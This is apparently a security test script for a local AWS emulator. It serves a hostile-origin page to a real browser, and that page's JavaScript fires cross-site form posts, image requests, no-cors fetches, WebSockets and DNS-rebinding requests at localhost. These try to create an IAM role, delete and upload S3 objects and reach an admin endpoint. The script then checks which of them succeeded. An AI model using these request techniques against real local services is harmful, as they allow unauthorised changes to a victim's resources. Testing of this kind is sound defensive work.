"""Shows a page of another origin to a real browser, has it attack Local AWS, and prints what came of it.

usage: foreign_page.py URL TOKEN
"""

import json
import subprocess
import sys
import tempfile
import urllib.parse
import urllib.request

import boto3
import chromium

URL, TOKEN = sys.argv[1:3]
PORT = urllib.parse.urlsplit(URL).port
KEYS = dict(endpoint_url=URL, region_name="us-east-1", aws_access_key_id="j", aws_secret_access_key="j")
HOSTS = ["evil.test", "rebind.test"]

PAGE = """<!DOCTYPE html><title>A page of somebody else</title><body><script>
const ROLE = "Action=CreateRole&RoleName=evil&AssumeRolePolicyDocument=" + encodeURIComponent(JSON.stringify({
  Version: "2012-10-17", Statement: [{Effect: "Allow", Principal: {Service: "lambda.amazonaws.com"}, Action: "sts:AssumeRole"}]}));
const key = service => "X-Amz-Credential=" + encodeURIComponent("A/20261123/us-east-1/" + service + "/aws4_request") + "&X-Amz-Signature=0&X-Amz-Date=20991123T000000Z&X-Amz-Expires=60";
const told = {};
const kind = type => ({"Content-Type": type});
async function tell(name, asked) {
  try { const answer = await asked; told[name] = answer.type === "opaque" ? "opaque" : answer.status; }
  catch (error) { told[name] = "refused"; }
}
const blind = (url, body, type) => fetch(url, {method: "POST", mode: "no-cors", body, headers: kind(type)});
function image(url) {
  return new Promise(done => { const image = new Image(); image.onload = image.onerror = () => done({status: "sent"}); image.src = url; });
}
function form(url, fields) {
  return new Promise(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "f" + Math.random();
    document.body.append(frame, form);
    Object.assign(form, {method: "POST", action: url, target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name, value});
      form.append(input);
    }
    frame.onload = () => done({status: "sent"});
    form.submit();
  });
}
function socket(url) {
  return new Promise((done, failed) => {
    const socket = new WebSocket(url);
    socket.onopen = () => done({status: "open"});
    socket.onerror = failed;
  });
}
async function attack(name, host) {
  const url = "http://" + host;
  const fields = Object.fromEntries(new URLSearchParams(ROLE));
  await tell(name + " form", form(url + "/?" + key("iam"), fields));
  await tell(name + " image", image(url + "/?" + ROLE + "&" + key("iam")));
  await tell(name + " no-cors", blind(url + "/?" + key("iam"), ROLE, "application/x-www-form-urlencoded"));
  await tell(name + " text/plain", blind(url + "/restapis?" + key("apigateway"), '{"name":"evil"}', "text/plain"));
  await tell(name + " bucket", blind(url + "/mine?delete&" + key("s3"), "<Delete><Object><Key>k</Key></Object></Delete>", "text/plain"));
  await tell(name + " upload", form(url + "/mine?" + key("s3"), {key: "evil", file: "x"}));
  await tell(name + " presigned", image(url + "/mine/k?" + key("s3")));
  await tell(name + " admin", blind(url + "/_local/clock", '{"step_seconds":60}', "text/plain"));
  await tell(name + " preflight", fetch(url + "/", {method: "POST", body: "{}", headers: {"X-Amz-Target": "AmazonAthena.ListWorkGroups"}}));
  await tell(name + " websocket", socket("ws://" + host + "/"));
}
(async () => {
  await attack("127.0.0.1", "127.0.0.1:PORT");
  await attack("localhost", "localhost:PORT");
  await attack("rebound", "rebind.test:PORT");
  await tell("endpoint", fetch("http://localhost:PORT/restapis/API/prod/_user_request_/"));
  await tell("endpoint rebound", fetch("http://rebind.test:PORT/restapis/API/prod/_user_request_/"));
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


def endpoint():
    """An API that answers every page, as that of a pipeline."""
    api = boto3.client("apigateway", **KEYS)
    made = api.create_rest_api(name="clicks")
    at = dict(restApiId=made["id"], resourceId=made["rootResourceId"], httpMethod="GET")
    api.put_method(**at, authorizationType="NONE")
    api.put_integration(**at, type="MOCK", requestTemplates={"application/json": '{"statusCode": 200}'})
    header = "method.response.header.Access-Control-Allow-Origin"
    api.put_method_response(**at, statusCode="200", responseParameters={header: False})
    api.put_integration_response(**at, statusCode="200", responseParameters={header: "'*'"})
    api.create_deployment(restApiId=made["id"], stageName="prod")
    return made["id"]


def own(method, page):
    request = urllib.request.Request(f"{URL}/_local/{page}", headers={"Authorization": f"Bearer {TOKEN}"}, method=method)
    with urllib.request.urlopen(request) as answer:
        return json.load(answer)


s3 = boto3.client("s3", **KEYS)
s3.create_bucket(Bucket="mine")
s3.put_object(Bucket="mine", Key="k", Body=b"mine")
port, told, ready = chromium.serve(PAGE.replace("PORT", str(PORT)).replace("API", endpoint(), 2))
own("DELETE", "requests")
if not chromium.show(f"http://evil.test:{port}/", HOSTS, ready):
    sys.exit("the page did not come to its end")
log = own("GET", "requests")
for name, answer in told.items():
    print(f"{name}: {answer}")
print("carried out:", sorted({line["operation"] for line in log}))
with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as home:
    page = chromium.start(home, HOSTS, "--dump-dom", f"http://rebind.test:{PORT}/", stdout=subprocess.PIPE, text=True)
    print("typed, rebound:", "for this machine only" in page.communicate(timeout=chromium.PATIENCE)[0])
iam = boto3.client("iam", **KEYS)
print("roles:", [role["RoleName"] for role in iam.list_roles()["Roles"]])
print("objects:", [item["Key"] for item in s3.list_objects_v2(Bucket="mine").get("Contents", [])])
